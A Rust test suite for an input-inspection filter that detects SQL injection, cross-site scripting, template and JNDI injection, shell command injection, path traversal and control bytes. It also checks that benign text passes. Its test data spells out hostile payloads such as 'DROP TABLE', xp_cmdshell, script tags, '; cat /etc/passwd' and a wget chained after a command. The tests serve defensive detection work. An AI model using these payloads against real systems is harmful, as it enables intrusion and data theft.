use proptest::prelude::*;

use super::*;

const PLACES: [Place; 6] =
    [Place::Closed, Place::Header, Place::Cookie, Place::FreeText, Place::Key, Place::Markup];

fn found(text: &str, place: Place) -> Option<&'static str> {
    inspect(text, place).map(|finding| finding.code.word())
}

#[test]
fn ordinary_text_passes() {
    for text in [
        "O'Brien",
        "select a plan",
        "a < b",
        "a < b && c > d",
        "<3 you",
        "Drop Table Ltd",
        "SELECT",
        "1 or 2 items",
        "price >= 100 and qty <= 5",
        "rock & roll; jazz -- and blues",
        "see ../docs",
        "naïve café, 日本語, Ελληνικά",
        "it's a union of select members",
        "100% sure: \"yes\"",
        "line one\nline two\ttabbed",
        "C# or Go?",
        "e = m * c^2 # physics",
        "if (a || b) { return c; }",
        "if name == 'a' or name == 'b':",
        "don't order by phone",
        "https://example.org/?a=1&b=2",
        "the players' #1 choice",
        "a trade union (select few)",
        "SELECT name FROM users WHERE id = 1 AND age > 5 ORDER BY name",
        "Hello {{ name }}, your home is ${HOME}",
        "run `ls -la`, then `make && make install`",
        "JavaScript: The Good Parts",
        "Request<Body> and Vec<Script>",
    ] {
        assert_eq!(inspect(text, Place::FreeText), None, "{text}");
    }
}

#[test]
fn ordinary_headers_and_cookies_pass() {
    for text in [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)",
        "curl/7.88.1",
        "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "en-US,en;q=0.5",
        "\"Chromium\";v=\"131\", \"Not?A_Brand\";v=\"24\"",
        "\"(Not(A:Brand\";v=\"99\", \"Google Chrome\";v=\"133\"",
        "W/\"686897696a7c876b7e\"",
        "python-requests/2.32 (like curl; or not)",
        "max-age=0, private, must-revalidate",
        "https://example.org/a/b?c=d%20e&f=%C3%A9#g",
        "for=192.0.2.60;proto=https;by=203.0.113.43",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    ] {
        assert_eq!(inspect(text, Place::Header), None, "{text}");
    }
    for text in [
        "GA1.2.1234567890.1700000000",
        "%7B%22distinct_id%22%3A%22a-b%22%2C%22props%22%3A%7B%7D%7D",
        "isGpcEnabled=0&datestamp=Mon+Nov+17+2025&groups=C0001%3A1%2CC0002%3A0",
        "{\"theme\":\"dark\",\"rows\":50}",
        "eyJhbGciOiJFZERTQSJ9.e30.c2ln--",
    ] {
        assert_eq!(inspect(text, Place::Cookie), None, "{text}");
    }
}

#[test]
fn values_of_closed_grammars_pass() {
    for text in [
        "BTC",
        "2020-01-17T00:00:00+01:00",
        "read:prices write:prices",
        "/api/v1/history/BTC",
        "eyJhIjoxfQ==",
        "Zm9v--_bar",
        "ada@example.org",
        "O'Brien",
        "São Paulo",
        "1d",
        "-12.5e10",
        "a,b,c",
        "fe80::1",
        "https://example.org/callback",
    ] {
        assert_eq!(inspect(text, Place::Closed), None, "{text}");
    }
}

#[test]
fn sql_is_found() {
    for text in [
        "BTC';DROP TABLE users;--",
        "' OR '1'='1",
        "1' OR 1=1 --",
        "admin'--",
        "1 UNION SELECT password FROM users",
        "'; EXEC xp_cmdshell('dir')--",
        "1; WAITFOR DELAY '0:0:5'--",
        "x' AND SLEEP(5) AND 'a'='a",
        "1' ORDER BY 10--",
        "\" or \"\"=\"",
        "1/**/UNION/**/SELECT/**/1,2,3",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "%2527%2520or%25201%253D1--",
    ] {
        assert_eq!(found(text, Place::Closed), Some("sqli_attempt"), "{text}");
        assert_eq!(found(text, Place::FreeText), Some("sqli_attempt"), "{text}");
    }
}

#[test]
fn script_is_found() {
    for text in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//x>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<a href=\"java\tscript:alert(1)\">",
        "<iframe src=x>",
        "<b onmouseover='x'>",
        "</script><script>x",
        "data:text/html,<b>x",
        "\" onmouseover=alert(1) x=\"",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "＜script＞alert(1)＜/script＞",
    ] {
        assert_eq!(found(text, Place::FreeText), Some("xss_attempt"), "{text}");
        assert_eq!(found(text, Place::Header), Some("xss_attempt"), "{text}");
        assert_eq!(found(text, Place::Markup), Some("xss_attempt"), "{text}");
    }
    assert_eq!(found("<p>A <b>bold</b> <a href=\"https://example.org/\">link</a></p>", Place::Markup), None);
}

#[test]
fn templates_and_commands_are_found() {
    for text in ["{{7*7}}", "${jndi:ldap://x/y}", "<%= 7*7 %>", "#{7*7}", "{{ ''.__class__.__mro__ }}"] {
        assert_eq!(found(text, Place::Closed), Some("template_attempt"), "{text}");
        assert_eq!(found(text, Place::FreeText), Some("template_attempt"), "{text}");
    }
    for text in
        ["; cat /etc/passwd", "x|whoami", "$(sleep 5)", "127.0.0.1 && wget http://x/y", "() { :;}; id"]
    {
        assert_eq!(found(text, Place::Closed), Some("shell_attempt"), "{text}");
        assert_eq!(found(text, Place::FreeText), Some("shell_attempt"), "{text}");
    }
}

#[test]
fn climbing_and_control_bytes_are_found() {
    for text in
        ["/api/../etc", "..", "a/..", "..\\windows", "x/..;/y", "/.. /", "%252e%252e%252fetc", "....//"]
    {
        assert_eq!(found(text, Place::Closed), Some("traversal_attempt"), "{text}");
    }
    assert_eq!(
        inspect_bytes(b"\xc0\xae\xc0\xae/x", Place::Closed).map(|found| found.code),
        Some(Code::TraversalAttempt)
    );
    assert_eq!(found("a..b", Place::Closed), None);
    assert_eq!(found("nul\0byte", Place::FreeText), Some("control_bytes"));
    assert_eq!(found("line\nbreak", Place::Closed), Some("control_bytes"));
    assert_eq!(found("line%0d%0abreak", Place::Closed), Some("control_bytes"));
    assert_eq!(found("esc\u{1b}[31m", Place::FreeText), Some("control_bytes"));
    assert_eq!(found("csi\u{9b}31m", Place::FreeText), Some("control_bytes"));
    assert_eq!(found("write \\x00 and %0a", Place::FreeText), None);
}

#[test]
fn what_is_escaped_for_ever_is_refused() {
    let often = |times| (0..times).fold("%41".to_owned(), |text, _| text.replace('%', "%25"));
    assert_eq!(found(&often(1), Place::Closed), None);
    assert_eq!(found(&often(5), Place::Closed), Some("escaped_too_often"));
    assert_eq!(found(&often(5), Place::FreeText), None);
}

#[test]
fn a_finding_names_its_place_and_not_the_bytes() {
    let text = "hello <script>alert(1)</script>";
    let refusal = inspect(text, Place::FreeText).expect("found").refusal("note", text.as_bytes());
    let facts = refusal.facts();
    assert_eq!(facts.errors[0].field, "note");
    assert!(!format!("{facts:?}").contains("alert"), "{facts:?}");
    assert!(
        facts
            .rule
            .as_ref()
            .and_then(|rule| rule.place.as_deref())
            .is_some_and(|at| at.starts_with("note at "))
    );
}

#[test]
fn a_place_is_told_in_the_text_as_it_was_sent() {
    let text = "x=%2527%2520or%25201%253D1--";
    let finding = inspect(text, Place::FreeText).expect("found");
    assert_eq!(&text[finding.offset..finding.offset + finding.length], "%2527%2520or%25201%253D");
}

proptest! {
    #[test]
    fn no_text_panics_and_every_finding_lies_inside(text in prop::collection::vec(any::<u8>(), 0..200)) {
        for place in PLACES {
            if let Some(found) = inspect_bytes(&text, place) {
                prop_assert!(found.length > 0 && found.offset + found.length <= text.len());
            }
        }
    }

    #[test]
    fn what_is_plain_has_no_finding(text in "[a-z0-9 ./:;'\"<(=&%|-]{0,40}") {
        for place in PLACES {
            if is_plain(text.as_bytes(), place) {
                prop_assert_eq!(views::search(text.as_bytes(), &sieve::awake(text.as_bytes()), place), None);
            }
        }
    }

    #[test]
    fn words_and_numbers_pass(text in "[a-zA-Z0-9 .,!?-]{0,60}") {
        prop_assume!(!text.contains("--") && !text.contains(".."));
        let lower = text.to_lowercase();
        prop_assume!(!MARK_WORDS.iter().any(|word| lower.contains(word)));
        prop_assert_eq!(inspect(&text, Place::FreeText), None);
    }
}

const MARK_WORDS: [&str; 4] = ["select", "union", "or", "and"];
